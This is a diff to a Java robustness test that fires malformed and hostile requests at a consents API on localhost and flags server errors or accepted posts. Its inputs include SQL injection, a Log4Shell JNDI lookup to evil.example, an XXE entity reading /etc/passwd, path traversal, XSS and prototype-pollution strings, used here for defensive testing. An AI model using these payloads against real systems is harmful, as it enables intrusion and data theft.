@@ -41,6 +41,7 @@ public class BadRequests {
         run.headers(centre);
         run.methods(centre);
         run.malformed(centre);
+        run.consents("/api/v1/tenants/" + centre.substring("/c/".length()));
         run.faults.forEach(System.out::println);
         System.out.println(run.sent + " requests, answers by status " + run.statuses + ", faults " + run.faults.size());
         System.exit(run.faults.isEmpty() ? 0 : 1);
@@ -134,6 +135,54 @@ public class BadRequests {
         }
     }
 
+    private void consents(String tenant) {
+        String good = "{\"key\":\"AAAAAAAAAAAAAAAAAAAAAA\",\"subject\":\"BBBBBBBBBBBBBBBBBBBBBB\",\"notice\":1,\"language\":\"en\","
+                + "\"choices\":{\"nothing-of-the-kind\":true},\"method\":\"api\",\"givenAt\":\"2026-11-22T04:00:00Z\"}";
+        List<String> bodies = new ArrayList<>(List.of(
+                good, "", " ", "null", "0", "\"\"", "[]", "{}", "{", "}", "{{", "{\"key\"", "{\"key\":", "{\"key\":\"", good + good, "[" + good + "]", "\u0000",
+                "\ufeff" + good, "[".repeat(4_000), "{\"choices\":".repeat(300), "{\"key\":\"\\ud800\"}", "{\"key\":\"\\u0000\"}", "{\"\":1}", "{\"__proto__\":{}}",
+                "{\"notice\":1e999999999}", "{\"notice\":-0}", "{\"notice\":NaN}", "{\"notice\":" + "9".repeat(3_000) + "}", "{\"a\":1" + ",\"a\":1".repeat(500) + "}",
+                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>", "key=AAAA&subject=BBBB", "x".repeat(4_097), "x".repeat(1_000_000)));
+        for (String part : List.of("AAAAAAAAAAAAAAAAAAAAAA", "BBBBBBBBBBBBBBBBBBBBBB", "\"en\"", "api", "2026-11-22T04:00:00Z", "nothing-of-the-kind")) {
+            for (String instead : List.of(
+                    "", "' or '1'='1", "${jndi:ldap://evil.example/x}", "#{7*7}", "<script>alert(1)</script>", "../../../etc/passwd", "\\u0000", "\u202e", "\ud83d\ude00",
+                    "x".repeat(3_500), "%00", "\\", "9999-12-31T23:59:59.999999999Z", "-999999999-01-01T00:00:00Z", "null", "true")) {
+                bodies.add(good.replace(part, instead));
+            }
+        }
+        for (String body : bodies) {
+            post(tenant + "/consents", "application/json", body, "");
+            post(tenant + "/consents/verifications", "application/json", body, "");
+            post(tenant + "/consents/verifications", "application/json", "{\"receipt\":\"" + body.replace("\\", "\\\\").replace("\"", "\\\"") + "\"}", "");
+        }
+        for (String type : List.of("", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json;charset=utf-7", "application/json, text/plain", "*/*", "x".repeat(3_000))) {
+            post(tenant + "/consents", type, good, "");
+        }
+        for (String line : List.of(
+                "Origin: null", "Origin: https://evil.example", "Origin: ", "Origin: https://a.example\r\nOrigin: https://b.example", "Origin: " + "x".repeat(5_000),
+                "Content-Encoding: gzip", "Content-Encoding: br", "Expect: 100-continue", "User-Agent: " + "(".repeat(8_000), "User-Agent: " + "Mozilla/5.0 ".repeat(600),
+                "Accept-Language: " + "de;q=x,".repeat(2_000), "X-Forwarded-For: 1.2.3.4", "X-HTTP-Method-Override: DELETE")) {
+            post(tenant + "/consents", "application/json", good, line + "\r\n");
+        }
+        for (String path : List.of(
+                "/api/v1/tenants//consents", "/api/v1/tenants/nobody/consents", "/api/v1/tenants/../consents", "/api/v1/tenants/%6frchestrate/consents",
+                "/api/v1/tenants/" + "a".repeat(5_000) + "/consents", tenant + "/consents;x=1", tenant + "/consents/", tenant + "//consents", tenant + "/consents%2f", tenant + "/consents/verifications/x")) {
+            post(path, "application/json", good, "");
+        }
+        for (String path : List.of(
+                "/consents/keys?x", "/consents/checkpoints?below=-1", "/consents/checkpoints?limit=99999999999999999999", "/consents/checkpoints?limit=%00",
+                "/consents/consistency", "/consents/consistency?from=0&to=0", "/consents/consistency?from=9223372036854775807&to=9223372036854775807",
+                "/consents/consistency?from=2&to=1", "/consents/consistency?from=1&from=2&to=3", "/consent-notices/0", "/consent-notices/-1", "/consent-notices/999999999",
+                "/consent-notices/9999999999", "/consent-notices/1?lang=", "/consent-notices/1?lang=%00", "/consent-notices/1?lang=../../x", "/consent-notices/1?lang=" + "x".repeat(5_000))) {
+            send("GET", tenant + path, "localhost");
+        }
+    }
+
+    private void post(String path, String type, String body, String more) {
+        raw("POST " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n" + more + (type.isEmpty() ? "" : "Content-Type: " + type + "\r\n")
+                + "Content-Length: " + body.getBytes(StandardCharsets.UTF_8).length + "\r\n\r\n" + body);
+    }
+
     private void send(String method, String path, String name, String... lines) {
         String more = lines.length == 0 ? "" : lines[0] + "\r\n";
         boolean body = more.contains("\r\n\r\n");
@@ -149,6 +198,9 @@ public class BadRequests {
         String shown = request.length() > 120 ? request.substring(0, 120) + "..." : request;
         String where = shown.replace("\r\n", " | ");
         if (status.startsWith("5")) {
+            faults.add(status + " for " + where);
+        }
+        if (status.startsWith("2") && request.startsWith("POST /api/")) {
             faults.add(status + " for " + where);
         }
         for (String word : REVEALING) {
